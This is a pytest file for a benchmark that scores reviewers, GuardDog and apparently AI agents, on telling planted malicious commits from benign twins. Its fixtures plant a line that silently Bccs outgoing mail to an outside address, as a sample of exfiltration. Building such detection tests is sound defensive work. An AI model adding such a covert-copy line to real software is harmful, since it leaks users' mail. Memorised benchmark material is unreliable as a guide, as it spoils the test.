"""How planted cases are read, reviewed and counted."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from benchmarks.bench_review import document, main, measure
from benchmarks.detection import Fate, Judged, Seen, by_family, table, total
from benchmarks.planted import Half, Twin, half_of, owned, read_cases
from containment.conftest import gateway  # noqa: F401  # a fixture
from containment.sandboxes import KEY
from pinwarden.conclusion import Conclusion
from pinwarden.reviewer import Agent
from pinwarden.sandbox import PROVIDERS
from support.models import REVIEW, Models

BLOCKED = Seen("critical", Conclusion.FAILURE, "complete", 1)
WARNED = Seen("high", Conclusion.NEUTRAL, "complete", 1)
PASSED = Seen("low", Conclusion.SUCCESS, "complete", 1)
UNREAD = Seen(None, Conclusion.FAILURE, "incomplete", 1)


def judged(malicious: Seen, benign: Seen, behaviour: str = "dns") -> Judged:
    return Judged("slug", Half.REPORTED, behaviour, "python", malicious, benign)


def planted(root: Path, slug: str, malicious: dict[str, str], benign: dict[str, str], removed: str = "") -> None:
    told = {"behaviour": "forwarding", "language": "python", "attack": "a report", "what": "a copy leaves", "severity": "critical"}
    files = {"case.yaml": json.dumps(told), "base/server.py": "x = 1\n", "base/old.py": "y = 1\n"}
    files |= {f"malicious/{path}": text for path, text in malicious.items()} | {f"benign/{path}": text for path, text in benign.items()}
    for path, text in (files | ({"deleted.txt": removed} if removed else {})).items():
        (root / slug / path).parent.mkdir(parents=True, exist_ok=True)
        (root / slug / path).write_text(text)


class TestCounting:
    def test_an_incomplete_review_has_found_nothing(self) -> None:
        one = total([judged(UNREAD, UNREAD)])
        assert (one.recall, one.recall_blocked, one.precision, one.told_apart) == (0, 0, None, 0)
        assert one.malicious[Fate.INCOMPLETE] == one.benign[Fate.INCOMPLETE] == 1

    def test_recall_is_of_all_malicious_commits(self) -> None:
        one = total([judged(BLOCKED, PASSED), judged(WARNED, PASSED), judged(PASSED, PASSED), judged(UNREAD, PASSED)])
        assert (one.cases, one.recall, one.recall_blocked, one.precision, one.told_apart) == (4, 0.5, 0.25, 1, 2)

    def test_a_twin_that_is_held_up_costs_precision(self) -> None:
        one = total([judged(BLOCKED, WARNED), judged(WARNED, BLOCKED), judged(WARNED, PASSED), judged(PASSED, WARNED)])
        assert (one.precision, one.told_apart) == (0.5, 1)

    @pytest.mark.parametrize("flag", [BLOCKED, WARNED])
    def test_whoever_flags_everything_tells_nothing_apart(self, flag: Seen) -> None:
        one = total([judged(flag, flag)] * 3)
        assert (one.recall, one.precision, one.told_apart) == (1, 0.5, 0)

    def test_families_are_apart(self) -> None:
        found = by_family([judged(BLOCKED, PASSED, "b"), judged(PASSED, PASSED, "a"), judged(WARNED, PASSED, "b")])
        assert [(name, one.cases, one.recall) for name, one in found.items()] == [("a", 1, 0), ("b", 2, 1)]

    def test_the_table_has_a_line_for_each_family_and_one_for_all(self) -> None:
        lines = table([judged(BLOCKED, UNREAD, "a"), judged(PASSED, PASSED, "b")]).splitlines()
        assert [line.split() for line in lines[1:]] == [
            ["a", "1", "1", "0", "0", "0", "1", "0", "100%", "100%", "100%"],
            ["b", "1", "0", "0", "1", "0", "0", "0", "0%", "0%", "-"],
            ["all", "2", "1", "0", "1", "0", "1", "0", "50%", "50%", "100%"],
        ]


class TestCases:
    def test_a_name_decides_the_half(self) -> None:
        # From `printf %s <slug> | sha256sum`.
        assert [half_of(slug) for slug in ("a", "b", "c")] == [Half.TUNING, Half.REPORTED, Half.TUNING]

    def test_the_other_half_is_not_opened(self, tmp_path: Path) -> None:
        planted(tmp_path, "a", {}, {})
        (tmp_path / "b").mkdir()
        for twin in Twin:
            (tmp_path / "a" / twin).mkdir()
        assert [case.slug for case in read_cases(tmp_path, [Half.TUNING])] == ["a"]
        with pytest.raises(OSError, match=r"case\.yaml"):
            read_cases(tmp_path, [Half.REPORTED])

    def test_a_case_that_is_not_whole_is_refused(self, tmp_path: Path) -> None:
        planted(tmp_path, "a", {"server.py": "x = 2\n"}, {})
        with pytest.raises(ValueError, match="a: no benign"):
            read_cases(tmp_path)

    def test_what_a_reviewer_sees_of_a_case_does_not_tell_which_twin_it_is(self, tmp_path: Path) -> None:
        planted(tmp_path, "leaks-mail", {"server.py": "x = 2\n"}, {"server.py": "x = 3\n"})
        [case] = read_cases(tmp_path)
        bad, good = (case.upstream(twin) for twin in Twin)
        assert [(commit.message, commit.author, commit.when) for commit in bad.commits] == [
            (commit.message, commit.author, commit.when) for commit in good.commits
        ]
        assert bad.branches == good.branches
        assert not any(word in f"{bad.name} {good.name}" for word in ("malicious", "benign", "leaks", "mail"))

    def test_hosts_are_names_that_somebody_could_own(self) -> None:
        text = b"https://api.notes.example/v1 me@mail.example 'elpmaxe.setaton//:sptth' for.example example.com an.examples"
        assert owned(text) == b"https://api.notes.dev/v1 me@mail.dev 'ved.setaton//:sptth' for.dev example.com an.examples"

    def test_what_the_malicious_commit_removes_is_gone_from_it_alone(self, tmp_path: Path) -> None:
        planted(tmp_path, "a", {"server.py": "x = 2\n"}, {"new.py": "x = 3\n"}, "old.py\n")
        [case] = read_cases(tmp_path)
        assert case.tree(Twin.MALICIOUS) == {"server.py": b"x = 2\n"}
        assert set(case.tree(Twin.BENIGN)) == {"server.py", "old.py", "new.py"}


def test_both_twins_are_reviewed_by_the_real_command(tmp_path: Path, guarddog_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(guarddog_cache))
    monkeypatch.setenv("RUNNER_TEMP", "")
    planted(tmp_path, "a", {"server.py": 'x = 1\nmessage["Bcc"] = "copies@mailroom-archive.net"\n'}, {"server.py": "x = 2\n"})
    planted(tmp_path, "b", {"server.py": "x = 3\n"}, {"old.py": "y = 2\n"}, "old.py\n")
    seen, rows = measure(read_cases(tmp_path), Agent.GUARDDOG)
    assert [(one.slug, one.half, one.malicious.fate, one.benign.fate) for one in seen] == [
        ("a", Half.TUNING, Fate.BLOCKED, Fate.PASSED),
        ("b", Half.REPORTED, Fate.PASSED, Fate.PASSED),
    ]
    assert any("copies@mailroom-archive.net" in told for told in seen[0].malicious.told)
    made = json.loads(json.dumps(document(seen, rows, Agent.GUARDDOG)))
    assert {half: one["all"]["recall"] for half, one in made["totals"].items()} == {"tuning": 1, "reported": 0}
    assert [row["runs"] for row in made["rows"]] == [2]


@pytest.mark.engine
@pytest.mark.parametrize("agent", PROVIDERS)
def test_an_agent_with_a_model_goes_the_same_way(agent: Agent, tmp_path: Path, gateway: str, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811  # the fixture
    """A scripted model finds nothing in either twin; what the surface sees of one counts all the same. It tells nothing of what a model finds."""
    planted(tmp_path, "a", {"server.py": 'x = 1\nmessage["Bcc"] = "copies@mailroom-archive.net"\n'}, {"server.py": "x = 2\n"})
    monkeypatch.setenv("RUNNER_TEMP", "")
    monkeypatch.setenv(PROVIDERS[agent].key_variable, KEY)
    with Models(gateway, [REVIEW]) as provider:
        monkeypatch.setenv("PINWARDEN_PROVIDER_URL", provider.url)
        [seen], rows = measure(read_cases(tmp_path), agent)
    assert (seen.malicious.fate, seen.benign.fate) == (Fate.BLOCKED, Fate.PASSED)
    assert provider.calls
    assert rows == []
    assert document([seen], rows, agent)["seconds"] > 0


@pytest.mark.parametrize(("agent", "half"), [("gemini", "reported"), ("guarddog", "all")])
def test_an_unknown_agent_or_half_is_refused(agent: str, half: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(agent, half) == 2
    assert "AGENT is one of claude, codex, guarddog, HALF one of reported, tuning, both" in capsys.readouterr().err
